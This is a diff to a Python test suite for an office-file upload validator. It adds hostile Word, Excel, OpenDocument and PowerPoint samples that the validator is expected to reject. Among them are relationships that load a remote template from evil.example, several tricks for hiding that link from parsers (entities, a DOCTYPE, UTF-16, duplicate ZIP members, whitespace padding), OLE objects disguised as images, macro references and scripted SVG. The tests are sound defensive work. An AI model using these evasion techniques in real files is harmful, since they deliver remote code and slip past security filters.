@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import os
 import time
+import warnings
 import zipfile
 from io import BytesIO
 from pathlib import Path
@@ -26,7 +27,7 @@ from tests.factories import make_city, make_member, make_solution, make_user
 from tests.personas import People
 
 
-def archive(*names: str, mimetype: str = "", **contents: str) -> bytes:
+def archive(*names: str, mimetype: str = "", **contents: str | bytes) -> bytes:
     """A ZIP file with these members; `contents` of those whose last part has this name."""
     buffer = BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
@@ -59,6 +60,31 @@ def template(target: str, kind: str = "attachedTemplate") -> bytes:
     )
 
 
+def related(relations: bytes) -> bytes:
+    """A Word file whose document names its parts in just these bytes, one of which is an object of another program."""
+    buffer = BytesIO(DOCX)
+    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as out:
+        out.writestr("word/_rels/document.xml.rels", relations)
+    return buffer.getvalue()
+
+
+def twice(first: bytes, second: bytes) -> bytes:
+    """A Word file with two members of one name: readers differ about which of them counts."""
+    buffer = BytesIO(related(first))
+    with zipfile.ZipFile(buffer, "a") as out, warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        out.writestr("word/_rels/document.xml.rels", second)
+    return buffer.getvalue()
+
+
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an object"
+EVIL = 'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"'
+NAMED = f'<p:Relationships xmlns:p="urn:p"><p:Relationship {EVIL}/></p:Relationships>'
+SPLIT = '<R><Relationship Target="http://evil.example/?a>b" Type="http://x/frame" TargetMode="External"/></R>'
+ENTITY = NAMED.replace("http://evil", "&#104;ttp://evil")
+DOCTYPE = '<!DOCTYPE R [<!ENTITY t "http://evil.example/">]>' + NAMED.replace("http://evil.example/", "&t;")
+OBJECT = '<R><Relationship Type="http://x/oleObject" Target="media/picture.dat"/></R>'
+CODE = '<R><Relationship Type="http://x/vbaProject" Target="picture.dat"/></R>'
 OPEN = "application/vnd.oasis.opendocument."
 DOCX = archive("[Content_Types].xml", "word/document.xml")
 PPTX = ("[Content_Types].xml", "ppt/presentation.xml", "ppt/media/image1.png", "ppt/media/image2.svg")
@@ -83,6 +109,8 @@ GOOD = {
     "chart.ods": archive("content.xml", "Object 1/content.xml", mimetype=f"{OPEN}spreadsheet"),
     "printer.xlsx": archive("[Content_Types].xml", "xl/workbook.xml", "xl/printerSettings/printerSettings1.bin"),
     "office.docx": template("file:///\\\\srv\\templates\\letter.dotx"),
+    "parts.docx": related(b'<R><Relationship Type="http://x/image" Target="media/a.png"/></R>'),
+    "table.docx": template("file:///C:/Tables/book.xlsx", kind="oleObject"),
     "links.docx": template("https://city.example/", kind="hyperlink"),
     "a.csv": "Städte;Einwohner\nGraz;302749\n".encode(),
     "excel.csv": "Straße;Länge;Preis\r\nHauptstraße;12,5;3 €\r\n".encode("cp1252"),
@@ -121,6 +149,20 @@ BAD = {
     "object.odt": (archive("content.xml", "Object 2", mimetype=f"{OPEN}text"), "contains a file of another program"),
     "remote.docx": (template("https://evil.example/t.dotm"), "fetches a part of itself"),
     "frame.docx": (template("HTTP://evil.example/", kind="frame"), "fetches a part of itself"),
+    "named.docx": (related(NAMED.encode()), "fetches a part of itself"),
+    "split.docx": (related(SPLIT.encode()), "fetches a part of itself"),
+    "entity.docx": (related(ENTITY.encode()), "fetches a part of itself"),
+    "wide.docx": (related(NAMED.encode("utf-16")), "fetches a part of itself"),
+    "doctype.docx": (related(DOCTYPE.encode()), "is damaged"),
+    "twice.docx": (twice(NAMED.encode(), b"<R/>"), "fetches a part of itself"),
+    "padded.docx": (related(b"<R>" + b" " * 9_000_000 + NAMED.encode() + b"</R>"), "too large when it is unpacked"),
+    "object2.docx": (related(OBJECT.encode()), "contains a file of another program"),
+    "code.docx": (related(CODE.encode()), "contains macros"),
+    "renamed.xlsx": (
+        archive("[Content_Types].xml", "xl/workbook.xml", "xl/media/image1.png", image1=OLE),
+        "contains a file of another program",
+    ),
+    "renamed.odt": (archive("content.xml", "Pictures/1", mimetype=f"{OPEN}text", **{"1": OLE}), "of another program"),
     "program.docx": (archive("[Content_Types].xml", "word/document.xml", "payload.hta"), "is a program or contains"),
     "script.pptx": (archive(*PPTX, image2="<svg><script>alert(1)</script></svg>"), "contains HTML, SVG or a script"),
     "handler.pptx": (archive(*PPTX, image2="<svg onload='alert(1)'/>"), "contains HTML, SVG or a script"),
